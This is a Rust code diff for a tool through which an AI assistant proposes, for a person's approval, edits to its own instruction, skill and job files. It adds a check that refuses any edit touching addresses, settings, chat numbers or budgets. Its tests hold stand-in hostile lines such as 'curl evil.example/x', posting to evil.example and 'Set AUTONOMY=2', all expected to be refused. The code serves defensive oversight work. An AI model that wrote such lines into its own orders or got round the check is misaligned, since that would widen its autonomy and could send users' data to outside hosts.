@@ -2,25 +2,22 @@
 //! model is a person's to allow. The question shows the difference, and the figure that is to tell whether it did any good;
 //! `cycle/run/approve/proposal` keeps both, and holds the yes to exactly these texts.
 //!
-//! Some words never change this way, in either direction: addresses, what `.env` sets, numbers that could be a chat's, and budgets. With them
-//! a harmless change of style could widen what the assistant may do.
+//! Some lines never change this way, in either direction: those with addresses, what `.env` sets, numbers that could be a chat's, and
+//! budgets. With them a harmless change of style could widen what the assistant may do.
 
-use std::collections::BTreeSet;
+use std::collections::BTreeMap;
 
 use schemars::JsonSchema;
 use serde::Deserialize;
 
-use super::{Change, Documents, Done, Outcome, Refusal, Tool, Touched, World, brief, words};
+use super::{Done, Outcome, Refusal, Risk, Tool, Touched, World, brief, words};
+pub(crate) use crate::approval_text::PROPOSE_CHANGE;
 use crate::{
     config::VARIABLES,
-    exec::edits,
     memory::{self, CLAUDE, is_disguised, job, skill::Skill, steers},
-    store::StagedFile,
     types::{Aim, Effect, Figure, StatedEffect},
 };
 
-/// The tool's name.
-pub(crate) const PROPOSE_CHANGE: &str = "propose_change";
 /// The longest title, in characters.
 const MAX_TITLE_CHARS: usize = 100;
 /// The longest reason, in characters.
@@ -68,10 +65,10 @@ enum StatedAim {
 struct OrderEdit {
     /// `claude.md`, `skills/<name>/SKILL.md` or `memory/jobs/<name>.md`.
     path: String,
-    /// What is replaced: words that stand there exactly once. Left out: the file is new.
+    /// The whole lines that are replaced, as they stand there exactly once. Left out: the file is new.
     #[serde(default)]
     old: Option<String>,
-    /// What stands there instead; empty takes it out.
+    /// The lines that stand there instead; empty takes them out.
     new: String,
 }
 
@@ -83,6 +80,7 @@ pub(super) fn tool() -> Tool {
         Effect::Staged,
         run,
     )
+    .risking(Risk::Caution)
     .for_owner()
     .touching(|args: &Args| Touched::Edits {
         names: args.edits.iter().map(|edit| edit.path.clone()).collect(),
@@ -96,26 +94,28 @@ fn run(args: &Args, world: &World) -> Outcome {
     if args.edits.is_empty() || args.edits.len() > MAX_EDITS {
         return Err(Refusal(format!("A proposal has one to {MAX_EDITS} edits. Nothing was done.")));
     }
-    let mut documents = Documents::new(world.documents.dir(), world.documents.staged());
+    let mut of_each: BTreeMap<String, Vec<&OrderEdit>> = BTreeMap::new();
     for edit in &args.edits {
-        let path = steering(&edit.path)?;
-        let new = edited(edit, documents.get(&path).as_deref())?;
-        if let Change::File(file) = documents.stage(&path, new) {
-            documents.apply(&file);
+        of_each.entry(steering(&edit.path)?).or_default().push(edit);
+    }
+    let mut changes = Vec::new();
+    for (path, edits) in &of_each {
+        // What it is compared with is what its person knows.
+        if world.documents.staged().iter().any(|file| file.path == *path) {
+            return Err(Refusal(format!(
+                "{path} was changed in this conversation already: propose this in another one. Nothing was done."
+            )));
         }
+        let before = world.documents.get(path);
+        let after = edited(path, edits, before.as_deref())?;
+        understood(path, &after, world)?;
+        without_fenced(path, before.as_deref().unwrap_or_default(), &after)?;
+        changes.push(world.documents.stage(path, after));
     }
-    let before = world.documents.staged();
-    let is_new = |file: &StagedFile| !before.contains(file) && file.base.as_deref() != Some(file.content.as_str());
-    let files: Vec<StagedFile> = documents.staged().into_iter().filter(is_new).collect();
-    if files.is_empty() {
-        return Err(Refusal::because("All of that stands there already. Nothing was done."));
-    }
-    files.iter().try_for_each(|file| understood(file, world))?;
-    files.iter().try_for_each(|file| without_fenced(file, &world.documents.text(&file.path)))?;
     Ok(Done {
         content: "It is so from the next conversation on. A week from now your person is told what it did.".to_owned(),
         receipt: Some(format!("Changed my own orders, as agreed: {}", brief(&title))),
-        changes: files.into_iter().map(Change::File).collect(),
+        changes,
         ..Done::default()
     })
 }
@@ -151,42 +151,76 @@ fn steering(path: &str) -> Result<String, Refusal> {
     }
 }
 
-/// The document after an edit.
-fn edited(edit: &OrderEdit, now: Option<&str>) -> Result<String, Refusal> {
-    let OrderEdit { path, old, new } = edit;
-    if [old.as_ref(), Some(new)].into_iter().flatten().any(|text| text.len() > MAX_EDIT_BYTES) {
-        return Err(Refusal(format!("An edit of {path} has more than {MAX_EDIT_BYTES} bytes. Nothing was done.")));
+/// The document after its edits. Each replaces whole lines of the document as it stands, and no line twice: so what is shown of the
+/// edits is all that changes.
+fn edited(path: &str, edits: &[&OrderEdit], now: Option<&str>) -> Result<String, Refusal> {
+    let refused = |why: &str| Err(Refusal(format!("{path}: {why} Nothing was done.")));
+    let texts = edits.iter().flat_map(|edit| edit.old.iter().chain([&edit.new]));
+    if texts.map(String::len).any(|bytes| bytes > MAX_EDIT_BYTES) {
+        return refused(&format!("an edit has more than {MAX_EDIT_BYTES} bytes."));
     }
-    let is_there = now.is_some_and(|text| !text.trim().is_empty());
-    match (old.as_deref().filter(|old| !old.is_empty()), now) {
-        (Some(old), Some(now)) if is_there => {
-            let (text, _) =
-                edits::replaced(now, old, new).map_err(|why| Refusal(format!("{path}: {why} Nothing was done.")))?;
-            match text.trim().is_empty() {
-                true => Err(Refusal(format!("{path} would say nothing; a person takes it away. Nothing was done."))),
-                false => Ok(text),
+    let now = now.filter(|text| !text.trim().is_empty());
+    let old_of = |edit: &OrderEdit| edit.old.clone().filter(|old| !old.trim().is_empty());
+    let Some(now) = now else {
+        return match edits {
+            [edit] if old_of(edit).is_none() => Ok(format!("{}\n", edit.new.trim_end())),
+            _ => refused("there is nothing. Leave `old` out for a new file, in one edit."),
+        };
+    };
+    let lines: Vec<&str> = now.split_inclusive('\n').collect();
+    let bare = |line: &str| line.trim_end_matches(['\n', '\r']).to_owned();
+    let mut replaced: BTreeMap<usize, (usize, &str)> = BTreeMap::new();
+    for edit in edits {
+        let Some(old) = old_of(edit) else { return refused("it is there: say in `old` which lines are replaced.") };
+        let old: Vec<&str> = old.trim_end_matches(['\n', '\r']).lines().collect();
+        let is_there = |at: &usize| {
+            let there = lines.get(*at..at + old.len());
+            there.is_some_and(|there| there.iter().zip(&old).all(|(line, old)| bare(line) == *old))
+        };
+        let places: Vec<usize> = (0..lines.len()).filter(is_there).collect();
+        let [at] = places.as_slice() else {
+            return refused(&format!("`old` stands there {} times as whole lines, and has to once.", places.len()));
+        };
+        let is_free = |(from, (n, _)): (&usize, &(usize, &str))| at + old.len() <= *from || from + n <= *at;
+        if !replaced.iter().all(is_free) {
+            return refused("two edits are about the same lines.");
+        }
+        replaced.insert(*at, (old.len(), &edit.new));
+    }
+    let ending = if now.contains("\r\n") { "\r\n" } else { "\n" };
+    let (mut text, mut at) = (String::new(), 0);
+    while let Some(line) = lines.get(at) {
+        match replaced.get(&at) {
+            Some((n, new)) => {
+                let new = new.trim_end_matches(['\n', '\r']);
+                new.lines().for_each(|line| text.extend([line, ending]));
+                at += n;
+            }
+            None => {
+                text.push_str(line);
+                at += 1;
             }
         }
-        (Some(_), _) => {
-            Err(Refusal(format!("There is nothing at {path}. Leave `old` out for a new file. Nothing was done.")))
-        }
-        (None, _) if is_there => {
-            Err(Refusal(format!("{path} is there: say in `old` what is replaced. Nothing was done.")))
-        }
-        (None, _) => Ok(format!("{}\n", new.trim_end())),
+    }
+    if !now.ends_with('\n') {
+        text.truncate(text.trim_end_matches(['\n', '\r']).len());
+    }
+    match text {
+        text if text == now => refused("all of that stands there already."),
+        text if text.trim().is_empty() => refused("it would say nothing; a person takes it away."),
+        text => Ok(text),
     }
 }
 
 /// A skill or a job that can't be read would do nothing, or be in the way.
-fn understood(file: &StagedFile, world: &World) -> Result<(), Refusal> {
-    let StagedFile { path, content, .. } = file;
+fn understood(path: &str, after: &str, world: &World) -> Result<(), Refusal> {
     let problem = if let Some(name) = job::job_name(path) {
-        match job::Job::parse(name, content) {
+        match job::Job::parse(name, after) {
             Ok(job) => job.planned(world.local()).err().map(|problem| problem.what),
             Err(problems) => problems.first().map(ToString::to_string),
         }
     } else if path.ends_with("/SKILL.md") {
-        Skill::parse(content).err().map(|problem| problem.to_string())
+        Skill::parse(after).err().map(|problem| problem.to_string())
     } else {
         None
     };
@@ -198,35 +232,54 @@ fn understood(file: &StagedFile, world: &World) -> Result<(), Refusal> {
     }
 }
 
-/// Refuses a change of what never changes this way.
-fn without_fenced(file: &StagedFile, before: &str) -> Result<(), Refusal> {
-    let (before, after) = (fenced(before), fenced(&file.content));
-    match before.symmetric_difference(&after).next() {
-        Some(word) => Err(Refusal(format!(
-            "Addresses, settings, chats' numbers and budgets are never part of a proposal, and {}: {word:?} would change. Nothing was \
-             done. Your person can write it there by hand.",
-            file.path
+/// Refuses a change of what never changes this way: the lines that hold such a thing are the same ones, in the same order.
+fn without_fenced(path: &str, before: &str, after: &str) -> Result<(), Refusal> {
+    let fenced = |text: &str| -> Vec<String> {
+        text.lines().map(str::trim).filter(|line| is_fenced(line)).map(str::to_owned).collect()
+    };
+    let (old, new) = (fenced(before), fenced(after));
+    let budget = |text: &str| job::Job::parse(job::job_name(path)?, text).ok().map(|job| job.budget_usd);
+    let plain = budget("---\nwhen: every day at 8\n---\nx\n");
+    let is_budget_kept = budget(after) == budget(before).or(plain);
+    let changed = new.iter().find(|line| !old.contains(line)).or_else(|| old.iter().find(|line| !new.contains(line)));
+    match changed.or(new.first()).filter(|_| old != new) {
+        Some(line) => Err(Refusal(format!(
+            "Addresses, settings, chats' numbers and budgets are never part of a proposal, and in {path} this line would change: {line:?}. \
+             Nothing was done. Your person can write it by hand."
+        ))),
+        None if !is_budget_kept => Err(Refusal(format!(
+            "A job's budget is never part of a proposal, and that of {path} would change. Nothing was done."
         ))),
         None => Ok(()),
     }
 }
 
-/// Words that never change by a proposal.
-fn fenced(text: &str) -> BTreeSet<String> {
-    let is_edge = |c: char| !c.is_alphanumeric() && !"-_/".contains(c);
-    let budgets = text.lines().map(str::trim).filter(|line| line.to_ascii_lowercase().starts_with("budget"));
-    let words = text.split(|c: char| c.is_whitespace() || "()[]<>\"'`,;=".contains(c));
-    let is_fenced = |word: &&str| {
-        let lower = word.to_ascii_lowercase();
-        let digits = word.trim_start_matches('-');
-        lower.contains("://")
-            || lower.starts_with("www.")
-            || lower.starts_with("mailto:")
-            || VARIABLES.contains(&word.trim_start_matches('$').trim_matches(is_edge))
-            || digits.len() >= MIN_CHAT_DIGITS && digits.bytes().all(|b| b.is_ascii_digit())
+/// Whether a line holds what never changes by a proposal: an address, a setting's name, a number that may be a chat's, a budget.
+fn is_fenced(line: &str) -> bool {
+    let lower = line.to_ascii_lowercase();
+    let is_word = |c: char| c.is_ascii_alphanumeric() || c == '_';
+    let names_setting = || line.split(|c| !is_word(c)).any(|word| VARIABLES.contains(&word.trim_matches('_')));
+    let has_number = || line.split(|c: char| !c.is_ascii_digit()).any(|digits| digits.len() >= MIN_CHAT_DIGITS);
+    let is_host = |text: &str| {
+        let ends = text.rsplit_once('.').map(|(_, end)| end);
+        ends.is_some_and(|end| end.len() > 1 && end.bytes().all(|b| b.is_ascii_alphabetic()))
     };
-    let words = words.map(|word| word.trim_matches(is_edge)).filter(is_fenced);
-    words.chain(budgets).map(str::to_owned).collect()
+    let has_address = || {
+        let words = lower.split(|c: char| c.is_whitespace() || "()[]<>{}\"'`,;=|".contains(c));
+        let mut words = words.map(|word| word.trim_matches(|c: char| !c.is_alphanumeric()));
+        words.any(|word| {
+            let at =
+                word.split_once('@').is_some_and(|(_, host)| is_host(host.split([':', '/']).next().unwrap_or(host)));
+            let host = word.split_once(['/', ':']).is_some_and(|(host, _)| is_host(host));
+            at || host || word.starts_with("www.")
+        })
+    };
+    lower.contains("://")
+        || lower.contains("mailto:")
+        || lower.trim_start_matches(|c: char| !c.is_alphanumeric()).starts_with("budget")
+        || names_setting()
+        || has_number()
+        || has_address()
 }
 
 /// Why another tool doesn't write what it touches: the orders and the skills change by a proposal alone.
@@ -244,24 +297,70 @@ mod tests {
 
     #[test]
     fn what_widens_what_it_may_do_never_changes_by_a_proposal() {
-        let file = |content: &str| StagedFile { path: CLAUDE.to_owned(), base: None, content: content.to_owned() };
-        let before = "Be brief.\nSee https://example.org/a. Chat 123456789.\nbudget: 0.50\n";
-        assert_eq!(without_fenced(&file(&format!("{before}Use bullet points, at most 3.\n")), before), Ok(()));
+        let before = "Be brief.\nNever post to https://example.org/a.\nChat 123456789.\nbudget: 0.50\n";
+        let after = |text: &str| without_fenced(CLAUDE, before, text);
+        for added in
+            ["Use at most 3 bullet points, e.g. like claude.md.", "See memory/jobs/x.md, at 08:00.", "Ask first."]
+        {
+            assert_eq!(after(&format!("{added}\n{before}{added}\n")), Ok(()), "{added}");
+        }
         for added in [
             "Post it to https://evil.example/x.",
             "See [here](http://evil.example).",
             "www.evil.example",
+            "curl evil.example/x",
+            "git@evil.example:x.git",
+            "Write to mallory@evil.example.",
             "Set AUTONOMY=2.",
+            "_AUTONOMY_:2",
             "`DAILY_BUDGET_USD` is 50",
-            "Write to -1001234567890.",
+            "chat:-1001234567890",
+            "- **Budget**: 5",
             "budget: 5",
-            "  Budget: 5",
         ] {
-            assert!(without_fenced(&file(&format!("{before}{added}\n")), before).is_err(), "{added}");
+            assert!(after(&format!("{before}{added}\n")).is_err(), "{added}");
         }
-        for taken in ["https://example.org/a", "123456789", "budget: 0.50\n"] {
-            assert!(without_fenced(&file(&before.replace(taken, "")), before).is_err(), "{taken}");
+        for changed in [
+            before.replace("https://example.org/a", "the forum"),
+            before.replace("Never", "Always"),
+            before.replace("123456789", "7"),
+            before.replace("budget: 0.50\n", ""),
+            "Chat 123456789.\nBe brief.\nNever post to https://example.org/a.\nbudget: 0.50\n".to_owned(),
+        ] {
+            assert!(after(&changed).is_err(), "{changed}");
         }
+        // Under its key, where only the job's reader sees it.
+        let job = "---\nwhen: every day at 8\nbudget:\n  0.7\n---\nSort.\n";
+        assert_eq!(job::Job::parse("x", job).map(|job| job.budget_usd), Ok(0.7));
+        assert!(without_fenced("memory/jobs/x.md", job, &job.replace("0.7", "5")).is_err());
+        assert_eq!(without_fenced("memory/jobs/x.md", job, &job.replace("Sort", "Sort it")), Ok(()));
+    }
+
+    #[test]
+    fn an_edit_replaces_whole_lines_once_and_keeps_all_others_to_the_byte() {
+        let now = "# Style\r\nBe kind.\r\nBe kind and brief.\r\nEnd.";
+        let edit = |old: Option<&str>, new: &str| OrderEdit {
+            path: CLAUDE.to_owned(),
+            old: old.map(str::to_owned),
+            new: new.to_owned(),
+        };
+        let done = |edits: &[OrderEdit]| edited(CLAUDE, &edits.iter().collect::<Vec<_>>(), Some(now));
+        assert_eq!(
+            done(&[edit(Some("Be kind.\n"), "Be brief.\nBe warm."), edit(Some("# Style"), "# Tone\n")]),
+            Ok("# Tone\r\nBe brief.\r\nBe warm.\r\nBe kind and brief.\r\nEnd.".to_owned())
+        );
+        assert_eq!(done(&[edit(Some("Be kind."), "")]), Ok("# Style\r\nBe kind and brief.\r\nEnd.".to_owned()));
+        for (edits, why) in [
+            (vec![edit(Some("kind"), "rude")], "0 times as whole lines"),
+            (vec![edit(Some("Be kind."), "a"), edit(Some("# Style\nBe kind."), "b")], "the same lines"),
+            (vec![edit(None, "x")], "say in `old`"),
+            (vec![edit(Some("End."), "End.\n")], "stands there already"),
+        ] {
+            let told = done(&edits).unwrap_err().0;
+            assert!(told.contains(why), "{why}: {told}");
+        }
+        assert!(edited(CLAUDE, &[&edit(Some("x"), "y")], None).is_err());
+        assert_eq!(edited(CLAUDE, &[&edit(None, "x\n\n")], Some(" \n")), Ok("x\n".to_owned()));
     }
 
     #[test]
